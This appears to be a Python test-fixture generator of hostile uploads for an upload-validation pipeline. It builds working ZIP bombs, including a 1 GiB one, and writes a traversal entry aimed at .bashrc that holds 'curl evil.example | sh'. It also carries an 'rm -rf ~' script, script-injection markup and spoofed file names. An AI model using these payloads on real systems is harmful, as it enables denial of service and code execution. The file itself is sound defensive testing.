"""The project's hostile-file generator: every kind of upload the pipeline must refuse.

Each HostileFile has the name a browser (or an attacker's script) would send, a maker for its
bytes (some depend on the policy's size limit) and the message the person must see. Everything
is built in memory in well under a second, including a ZIP whose one entry really inflates to
1 GiB and a ZIP of 100,000 entries.

    for hostile in HOSTILE_FILES:
        data = hostile.make(policy)
"""

import gzip
import io
import struct
import tarfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from core.uploads import errors
from core.uploads.policies import MB, UploadPolicy
from tests.core import sample_files as samples


@dataclass(frozen=True)
class HostileFile:
    id: str
    name: str
    make: Callable[[UploadPolicy], bytes]
    expected: str  # an errors.* constant, perhaps with {limit} / {allowed}

    def message(self, policy: UploadPolicy) -> str:
        return self.expected.format(limit=policy.size_label, allowed=policy.allowed_description)


# --- Hand-made ZIP containers -------------------------------------------------------------------


@dataclass(frozen=True)
class RawEntry:
    name: str
    data: bytes  # as stored (already deflated when method is 8)
    crc: int
    size: int  # uncompressed size, as declared
    method: int = 8
    flags: int = 0


def stored_entry(name: str, data: bytes) -> RawEntry:
    return RawEntry(name, data, zlib.crc32(data), len(data), method=0)


def raw_zip(entries: list[RawEntry], *, shared_offsets: bool = False) -> bytes:
    """Write a ZIP by hand (so sizes, flags and offsets can be whatever an attacker chooses).

    With shared_offsets, every central-directory entry after the first points at the first
    entry's data, as overlapping-entry zip bombs do. More than 65,535 entries get ZIP64 records.
    """
    out = bytearray()
    offsets = []
    for index, entry in enumerate(entries):
        if shared_offsets and index:
            offsets.append(offsets[0])
            continue
        name = entry.name.encode()
        offsets.append(len(out))
        out += struct.pack(
            "<4sHHHHHIIIHH",
            b"PK\x03\x04",
            20,
            entry.flags,
            entry.method,
            0,
            0x21,
            entry.crc,
            len(entry.data),
            entry.size,
            len(name),
            0,
        )
        out += name + entry.data
    directory_offset = len(out)
    for entry, offset in zip(entries, offsets, strict=True):
        name = entry.name.encode()
        out += struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            entry.flags,
            entry.method,
            0,
            0x21,
            entry.crc,
            len(entry.data),
            entry.size,
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        out += name
    directory_size = len(out) - directory_offset
    count = len(entries)
    if count > 0xFFFF:
        record_offset = len(out)
        out += struct.pack(
            "<4sQHHIIQQQQ",
            b"PK\x06\x06",
            44,
            45,
            45,
            0,
            0,
            count,
            count,
            directory_size,
            directory_offset,
        )
        out += struct.pack("<4sIQI", b"PK\x06\x07", 0, record_offset, 1)
        count = 0xFFFF
    out += struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, directory_size, directory_offset, 0
    )
    return bytes(out)


@cache
def deflated_zeros(mebibytes: int) -> RawEntry:
    """A deflate stream that really inflates to `mebibytes` MiB of zeros, made in milliseconds:
    once the window is full of zeros, each further MiB compresses to the same bytes."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = bytes(MB)
    first = compressor.compress(block) + compressor.flush(zlib.Z_SYNC_FLUSH)
    repeat = compressor.compress(block) + compressor.flush(zlib.Z_SYNC_FLUSH)
    assert repeat == compressor.compress(block) + compressor.flush(zlib.Z_SYNC_FLUSH)
    data = first + repeat * (mebibytes - 1) + compressor.flush()
    crc = 0
    for _ in range(mebibytes):
        crc = zlib.crc32(block, crc)
    return RawEntry("", data, crc, mebibytes * MB)


def ooxml_with(entry_name: str, entry: RawEntry) -> bytes:
    """An XLSX-looking package whose worksheet is `entry`."""
    return raw_zip(
        [
            stored_entry(
                "[Content_Types].xml",
                samples.content_types_xml("xl/workbook.xml", samples.XLSX_MAIN),
            ),
            stored_entry("_rels/.rels", samples.rels_xml("xl/workbook.xml")),
            stored_entry("xl/workbook.xml", b"<workbook/>"),
            RawEntry(entry_name, entry.data, entry.crc, entry.size, entry.method, entry.flags),
        ]
    )


def zip_bomb() -> bytes:
    # One worksheet that inflates to 1 GiB from about 1 MB.
    return ooxml_with("xl/worksheets/sheet1.xml", deflated_zeros(1024))


def zip_bomb_by_ratio() -> bytes:
    # 64 MiB from 64 KB: under the absolute cap, but 1,000 times its size.
    return ooxml_with("xl/worksheets/sheet1.xml", deflated_zeros(64))


def zip_bomb_overlapping() -> bytes:
    # Sixteen names for one compressed stream (0.5 MiB each): 8 MiB in all, under both caps,
    # but the entries overlap.
    zeros = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = zeros.compress(bytes(MB // 2)) + zeros.flush()
    body = RawEntry("", data, zlib.crc32(bytes(MB // 2)), MB // 2)
    entries = [
        RawEntry(f"xl/worksheets/sheet{n}.xml", body.data, body.crc, body.size) for n in range(16)
    ]
    return raw_zip(entries, shared_offsets=True)


def zip_lying_about_size() -> bytes:
    # A worksheet that declares 1 KB but inflates to 64 MiB.
    bomb = deflated_zeros(64)
    return ooxml_with("xl/worksheets/sheet1.xml", RawEntry("", bomb.data, bomb.crc, 1024))


def many_entries() -> bytes:
    entries = [
        stored_entry(
            "[Content_Types].xml", samples.content_types_xml("xl/workbook.xml", samples.XLSX_MAIN)
        )
    ]
    entries += [stored_entry(f"xl/p{n}.xml", b"") for n in range(100_000)]
    return raw_zip(entries)


def encrypted_entry_docx() -> bytes:
    body = b"\x00" * 64  # stands in for ZipCrypto ciphertext
    return raw_zip(
        [
            stored_entry(
                "[Content_Types].xml",
                samples.content_types_xml("word/document.xml", samples.DOCX_MAIN),
            ),
            RawEntry("word/document.xml", body, zlib.crc32(body), 64, method=0, flags=0x1),
        ]
    )


def traversal_entry_xlsx() -> bytes:
    return samples.ooxml(
        "xl/workbook.xml",
        samples.XLSX_MAIN,
        b"<workbook/>",
        extra_parts={"../../../home/user/.bashrc": b"curl evil.example | sh"},
    )


def macro_xlsm() -> bytes:
    return samples.ooxml(
        "xl/workbook.xml",
        samples.XLSM_MAIN,
        b"<workbook/>",
        extra_parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Attribute VB_Name"},
        extra_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    )


def macro_docm() -> bytes:
    # Only the content type gives it away (no vbaProject.bin part).
    return samples.ooxml("word/document.xml", samples.DOCM_MAIN, b"<w:document/>")


def vba_project_in_xlsx() -> bytes:
    # An ordinary workbook's content types, with a VBA project smuggled in.
    return samples.ooxml(
        "xl/workbook.xml",
        samples.XLSX_MAIN,
        b"<workbook/>",
        extra_parts={"xl/vbaProject.bin": b"Attribute VB_Name = Module1"},
    )


def open_document() -> bytes:
    return samples.zip_bytes(
        {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office/>"}
    )


def plain_zip() -> bytes:
    return samples.zip_bytes({"evidence/minutes.txt": b"Minutes of the meeting"})


def tar_archive() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        data = b"Record,Area\n1,Fife\n"
        info = tarfile.TarInfo("readings.csv")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def windows_program() -> bytes:
    header = bytearray(512)
    header[0:2] = b"MZ"
    header[0x3C:0x40] = struct.pack("<I", 0x80)
    header[0x80:0x84] = b"PE\x00\x00"
    return bytes(header) + b"This program cannot be run in DOS mode."


def ole2(*streams: str) -> bytes:
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    directory = b"".join(name.encode("utf-16-le").ljust(128, b"\x00") for name in streams)
    return header + directory


def oversized(policy: UploadPolicy) -> bytes:
    return b"%PDF-1.4\n" + bytes(policy.max_bytes - 8)


CSV = samples.csv_utf8()
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(document.cookie)</script></svg>"
)


def _const(data: bytes) -> Callable[[UploadPolicy], bytes]:
    return lambda policy: data


def _lazy(maker: Callable[[], bytes]) -> Callable[[UploadPolicy], bytes]:
    return lambda policy: maker()


HOSTILE_FILES: list[HostileFile] = [
    # Programs dressed as documents.
    HostileFile("renamed_exe_as_pdf", "report.pdf", _lazy(windows_program), errors.EXECUTABLE),
    HostileFile(
        "elf_as_csv", "readings.csv", _const(b"\x7fELF\x02\x01\x01" + bytes(57)), errors.EXECUTABLE
    ),
    HostileFile(
        "macho_as_docx", "notes.docx", _const(b"\xcf\xfa\xed\xfe" + bytes(60)), errors.EXECUTABLE
    ),
    HostileFile(
        "shell_script_as_csv", "data.csv", _const(b"#!/bin/sh\nrm -rf ~,now\n"), errors.EXECUTABLE
    ),
    # Zip bombs and odd ZIPs dressed as Office files.
    HostileFile("zip_bomb_as_xlsx", "readings.xlsx", _lazy(zip_bomb), errors.ZIP_BOMB),
    HostileFile("zip_bomb_by_ratio", "summary.xlsx", _lazy(zip_bomb_by_ratio), errors.ZIP_BOMB),
    HostileFile(
        "zip_bomb_overlapping", "totals.xlsx", _lazy(zip_bomb_overlapping), errors.ZIP_BOMB
    ),
    HostileFile("zip_lying_about_size", "sums.xlsx", _lazy(zip_lying_about_size), errors.DAMAGED),
    HostileFile("zip_100000_entries", "big.xlsx", _lazy(many_entries), errors.TOO_MANY_PARTS),
    HostileFile(
        "zip_encrypted_entry", "locked.docx", _lazy(encrypted_entry_docx), errors.ENCRYPTED
    ),
    HostileFile("zip_traversal_entry", "sheet.xlsx", _lazy(traversal_entry_xlsx), errors.DAMAGED),
    # Macros.
    HostileFile("macro_xlsm_as_xlsx", "budget.xlsx", _lazy(macro_xlsm), errors.MACROS),
    HostileFile("macro_docm_as_docx", "letter.docx", _lazy(macro_docm), errors.MACROS),
    HostileFile("vba_project_in_xlsx", "plan.xlsx", _lazy(vba_project_in_xlsx), errors.MACROS),
    # Markup that a browser would run.
    HostileFile(
        "html_as_pdf",
        "report.pdf",
        _const(b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
        errors.WEB_PAGE,
    ),
    HostileFile(
        "html_after_bom_and_space",
        "report.csv",
        _const(b"\xef\xbb\xbf \r\n<html><body onload=alert(1)>,</body></html>"),
        errors.WEB_PAGE,
    ),
    HostileFile(
        "script_in_csv",
        "data.csv",
        _const(b"name,value\n<script>alert(1)</script>,1\n"),
        errors.WEB_PAGE,
    ),
    HostileFile("xml_as_docx", "notes.docx", _const(b"<?xml version='1.0'?><a/>"), errors.WEB_PAGE),
    HostileFile("svg_with_script", "chart.svg", _const(SVG_WITH_SCRIPT), errors.SVG),
    HostileFile("svg_as_png", "chart.png", _const(SVG_WITH_SCRIPT), errors.SVG),
    # Size.
    HostileFile("oversized", "large.pdf", oversized, errors.TOO_LARGE),
    HostileFile("empty", "empty.csv", _const(b""), errors.EMPTY),
    # Names.
    HostileFile("path_traversal", "../../etc/passwd", _const(CSV), errors.NAME_PATH),
    HostileFile("path_traversal_windows", "..\\..\\boot.ini", _const(CSV), errors.NAME_PATH),
    HostileFile("reserved_name_con", "CON.csv", _const(CSV), errors.NAME_RESERVED),
    HostileFile("reserved_name_lpt1", "lpt1.tar.csv", _const(CSV), errors.NAME_RESERVED),
    HostileFile(
        "right_to_left_override",
        "invoice\u202efdp.exe",
        _lazy(samples.pdf),
        errors.NAME_HIDDEN_CHARACTERS,
    ),
    HostileFile(
        "nul_in_name", "report.pdf\x00.exe", _lazy(samples.pdf), errors.NAME_CONTROL_CHARACTERS
    ),
    HostileFile("newline_in_name", "notes\r\n.csv", _const(CSV), errors.NAME_CONTROL_CHARACTERS),
    # Archives and formats that cannot be inspected.
    HostileFile("plain_zip", "evidence.zip", _lazy(plain_zip), errors.ARCHIVE),
    HostileFile("plain_zip_as_docx", "evidence.docx", _lazy(plain_zip), errors.ARCHIVE),
    HostileFile(
        "seven_zip",
        "evidence.7z",
        _const(b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24)),
        errors.ARCHIVE,
    ),
    HostileFile(
        "rar_as_pdf", "report.pdf", _const(b"Rar!\x1a\x07\x01\x00" + bytes(24)), errors.ARCHIVE
    ),
    HostileFile("gzip_as_csv", "readings.csv", _const(gzip.compress(CSV, mtime=0)), errors.ARCHIVE),
    HostileFile("tar_as_csv", "readings.csv", _lazy(tar_archive), errors.ARCHIVE),
    HostileFile("open_document", "report.odt", _lazy(open_document), errors.OPEN_DOCUMENT),
    HostileFile(
        "legacy_ole2_xls",
        "budget.xls",
        _const(ole2("Root Entry", "Workbook")),
        errors.LEGACY_OFFICE,
    ),
    HostileFile(
        "password_protected_office",
        "budget.xlsx",
        _const(ole2("Root Entry", "EncryptionInfo", "EncryptedPackage")),
        errors.ENCRYPTED,
    ),
    # Text that is not a CSV this service can read, and bytes that are nothing known.
    HostileFile(
        "utf16_csv",
        "readings.csv",
        _const("Record,Area\n1,Fife\n".encode("utf-16")),
        errors.CSV_ENCODING,
    ),
    HostileFile("binary_noise", "data.csv", _const(bytes(range(256)) * 4), errors.UNRECOGNISED),
]
